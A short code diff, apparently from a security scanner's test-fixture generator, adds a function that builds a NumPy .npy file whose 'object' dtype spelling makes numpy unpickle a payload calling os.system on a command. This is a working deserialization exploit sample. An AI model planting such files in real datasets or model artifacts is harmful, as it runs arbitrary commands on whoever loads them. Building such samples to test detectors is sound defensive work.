@@ -132,6 +132,14 @@ def npz_object_array_descr_variants() -> bytes:
     return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + payload
 
 
+def npy_object_spelled_out() -> bytes:
+    # descr 'object' (not 'O'): numpy builds an object dtype from it and unpickles the data
+    payload = b"\x80\x02" + call(g("os", "system"), s(CMD)) + b"."
+    raw = b"{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"
+    raw += b" " * (63 - (10 + len(raw)) % 64) + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + payload
+
+
 # --- root cause 6: compression a loader opens transparently ------------------------------------
 
 
